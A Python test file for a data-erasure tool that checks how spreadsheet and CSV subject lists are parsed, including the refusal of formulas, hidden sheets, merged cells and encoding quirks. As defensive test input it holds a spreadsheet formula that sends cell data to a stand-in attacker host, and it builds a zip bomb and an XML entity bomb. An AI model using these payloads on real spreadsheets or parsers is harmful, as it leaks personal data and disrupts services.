"""Subject lists as spreadsheets: real .xlsx files written here with openpyxl (hostile ones included) and
CSV the way spreadsheet programs save it. Same row checks as CSV/JSON; problems name sheet, row and
column, never the value; formulas are never evaluated."""

from __future__ import annotations

import codecs
import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest
from openpyxl.styles import PatternFill

from genesys_erasure.identifiers import Identifier, IdentifierKind
from genesys_erasure.subject_input import (
    SUBJECTS_FILE_PATTERN,
    InputLimits,
    RowProblem,
    SubjectInputError,
    parse_file,
)

K = IdentifierKind
SECRET = "jane.secret@example.org"


def xlsx(build=None, header=("type", "value"), rows=(("email", SECRET), ("phone", "+44 20 7946 0958"))):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Subjects"
    if header:
        sheet.append(list(header))
    for row in rows:
        sheet.append(list(row))
    if build:
        build(workbook, sheet)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def problems_of(data: bytes, **kwargs) -> tuple[RowProblem, ...]:
    with pytest.raises(SubjectInputError) as caught:
        parse_file(data, name="list.xlsx", **kwargs)
    assert "jane" not in str(caught.value).lower()
    return caught.value.problems


def test_a_plain_workbook_gives_the_same_identifiers_as_the_csv():
    parsed = parse_file(xlsx(), name="file:///data/DSR-1.xlsx")
    as_csv = parse_file(f"type,value\nemail,{SECRET}\nphone,+44 20 7946 0958\n".encode(), name="x.csv")

    assert (
        parsed.identifiers
        == as_csv.identifiers
        == (
            Identifier(K.EMAIL, SECRET),
            Identifier(K.PHONE, "+442079460958"),
        )
    )
    assert parsed.rows_read == 2


def test_a_formula_is_an_error_for_its_row_and_is_never_evaluated():
    def formula(_, sheet):
        sheet["B3"] = '=WEBSERVICE("http://attacker.example/?q="&B2)'

    problems = problems_of(xlsx(formula))

    assert problems == (
        RowProblem(3, "value", "formula (type the value instead)", sheet="Subjects", column="B"),
    )
    assert "sheet 'Subjects', row 3, field 'value' (column B)" in problems[0].describe()


def test_numbers_dates_and_error_cells_are_refused_where_text_is_expected():
    def cells(_, sheet):
        sheet.append(["phone", 442079460958])
        sheet.append(["email", date(2020, 1, 1)])
        sheet.append(["email", "#N/A"])

    problems = problems_of(xlsx(cells))

    assert [(p.row, p.column, p.reason.split(" ")[0]) for p in problems] == [
        (4, "B", "not_text"),
        (5, "B", "not_text"),
        (6, "B", "error_cell"),
    ]


def test_bad_rows_are_skipped_on_request_and_reported_with_sheet_and_column():
    def bad(_, sheet):
        sheet.append(["email", "=1+1"])

    parsed = parse_file(xlsx(bad), name="l.xlsx", skip_invalid_rows=True)

    assert len(parsed.identifiers) == 2
    assert parsed.summary()["skipped"] == [
        {
            "row": 4,
            "field": "value",
            "reason": "formula (type the value instead)",
            "sheet": "Subjects",
            "column": "B",
        }
    ]


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_sheet_holding_data_stops_the_list(state):
    def hidden(workbook, _):
        secret = workbook.create_sheet("Extra")
        secret.append(["value"])
        secret.append(["someone.else@example.org"])
        secret.sheet_state = state

    problems = problems_of(xlsx(hidden))

    assert problems == (
        RowProblem(None, "sheet", "hidden_sheet_with_data (unhide or delete it)", sheet="Extra"),
    )


def test_an_empty_hidden_sheet_and_an_empty_second_sheet_are_ignored():
    def extra(workbook, _):
        workbook.create_sheet("Notes")
        workbook.create_sheet("Lookup").sheet_state = "hidden"

    assert len(parse_file(xlsx(extra), name="l.xlsx").identifiers) == 2


def test_two_visible_sheets_with_data_are_refused_naming_both():
    def second(workbook, _):
        workbook.create_sheet("More").append(["value"])

    problems = problems_of(xlsx(second))

    assert {p.sheet for p in problems} == {"Subjects", "More"}
    assert all(p.reason.startswith("several_sheets_with_data") for p in problems)


def test_merged_cells_over_the_list_are_errors_for_the_rows_they_cover():
    def merged(_, sheet):
        sheet.merge_cells("B2:B3")  # the phone number in B3 disappears under the merge

    problems = problems_of(xlsx(merged))

    assert [(p.row, p.reason) for p in problems] == [
        (2, "merged_cells (unmerge them)"),
        (3, "merged_cells (unmerge them)"),
    ]


def test_a_hidden_row_holding_data_is_an_error_for_that_row():
    def hide(_, sheet):
        sheet.row_dimensions[3].hidden = True

    assert problems_of(xlsx(hide)) == (
        RowProblem(3, "row", "hidden_row (unhide or delete it)", sheet="Subjects"),
    )


def test_formatted_empty_trailing_rows_and_blank_top_rows_are_skipped_with_excel_row_numbers():
    def layout(_, sheet):
        sheet.insert_rows(1, amount=2)  # the header moves to row 3
        for row in range(10, 5000):
            sheet.cell(row, 2).fill = PatternFill("solid", fgColor="FFFF00")
        sheet["B5"] = "not-an-email@"

    problems = problems_of(xlsx(layout))

    assert [(p.row, p.column) for p in problems] == [(5, "B")]


def test_a_sheet_title_that_could_be_data_is_named_by_its_position():
    def rename(workbook, sheet):
        sheet.title = "jane.secret@example.org"
        sheet["B3"] = "=1"

    problems = problems_of(xlsx(rename))

    assert problems[0].sheet == "sheet 1"


def test_header_problems_name_sheet_row_and_column():
    problems = problems_of(xlsx(header=("type", "email address")))

    assert problems == (
        RowProblem(
            1, "email address", "unexpected_column (only type and value)", sheet="Subjects", column="B"
        ),
    )


def test_the_row_limit_applies_to_workbooks():
    rows = [("email", f"p{i}@example.org") for i in range(4)]
    problems = problems_of(xlsx(rows=rows), limits=InputLimits(max_rows=3))
    assert problems[0].reason == "too_many_rows (limit 3)"


def test_the_size_limit_applies_to_workbooks():
    data = xlsx()
    problems = problems_of(data, limits=InputLimits(max_bytes=len(data) - 1))
    assert problems[0].reason.startswith("too_large")


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    buffer = io.BytesIO(xlsx())
    with zipfile.ZipFile(buffer, "a", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/media/padding.bin", b"\0" * 30_000_000)
    data = buffer.getvalue()
    assert len(data) < 100_000

    problems = problems_of(data, limits=InputLimits(max_bytes=200_000))

    assert problems[0].reason.startswith("too_large_unpacked")


def _entity_bomb() -> bytes:
    """A "billion laughs" DOCTYPE: each entity repeats the one before ten times."""
    entities = "".join(f'<!ENTITY e{i} "{f"&e{i - 1};" * 10}">' for i in range(1, 10))
    return f'<!DOCTYPE x [<!ENTITY e0 "lol">{entities}]>'.encode()


def test_an_xml_entity_bomb_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(xlsx())) as source, zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = _entity_bomb() + content.replace(b"<sheetPr>", b"<sheetPr>&e9;", 1)
            target.writestr(item, content)

    problems = problems_of(buffer.getvalue())

    assert problems[0].reason.startswith("unreadable_xlsx")


def test_a_file_named_xlsx_that_is_not_a_workbook_is_refused():
    assert problems_of(b"type,value\nemail,x@example.org\n")[0].reason.startswith("not_xlsx")


def test_the_form_accepts_an_xlsx_uri():
    assert re.match(SUBJECTS_FILE_PATTERN, "file:///data/dsr/DSR-2026-0042.xlsx")


# -- CSV the way spreadsheet programs save it --------------------------------------------------------------

CSV_ROWS = ["type;value", f"email;{SECRET}", "phone;+44 20 7946 0958", "email;broken@@x"]


@pytest.mark.parametrize(
    "encoded",
    [
        pytest.param("\r\n".join(CSV_ROWS).encode("utf-8"), id="semicolon"),
        pytest.param(codecs.BOM_UTF8 + "\r\n".join(CSV_ROWS).encode("utf-8"), id="utf8-bom"),
        pytest.param("\r\n".join(CSV_ROWS).encode("utf-16"), id="utf16-bom"),
        pytest.param(
            "\r\n".join(r.replace(";", "\t") for r in CSV_ROWS).encode("utf-16-le"), id="utf16-no-bom"
        ),
        pytest.param(
            codecs.BOM_UTF16_LE + "\r\n".join(r.replace(";", "\t") for r in CSV_ROWS).encode("utf-16-le"),
            id="excel-unicode-text",
        ),
    ],
)
def test_spreadsheet_csv_dialects_get_the_same_row_checks(encoded):
    with pytest.raises(SubjectInputError) as caught:
        parse_file(encoded, name="list.csv")

    if encoded.startswith(b"t\0"):  # UTF-16 without its BOM: refused, not read as text with NULs
        assert caught.value.problems == (
            RowProblem(None, "subjects_file", "not_utf8 (UTF-16 needs its BOM)"),
        )
        return
    assert caught.value.problems == (RowProblem(4, "value", "invalid_email: invalid_syntax"),)
    parsed = parse_file(encoded, name="list.csv", skip_invalid_rows=True)
    assert parsed.identifiers == (Identifier(K.EMAIL, SECRET), Identifier(K.PHONE, "+442079460958"))


def test_the_ad_hoc_dag_reads_an_xlsx_subject_file_from_its_uri(tmp_path):
    from genesys_erasure.tasks.subject_request import read_subjects

    listing = tmp_path / "DSR-2026-0042.xlsx"
    listing.write_bytes(xlsx())

    parsed = read_subjects({"subjects_file": listing.as_uri()}, default_region=None)

    assert parsed.identifiers == (Identifier(K.EMAIL, SECRET), Identifier(K.PHONE, "+442079460958"))
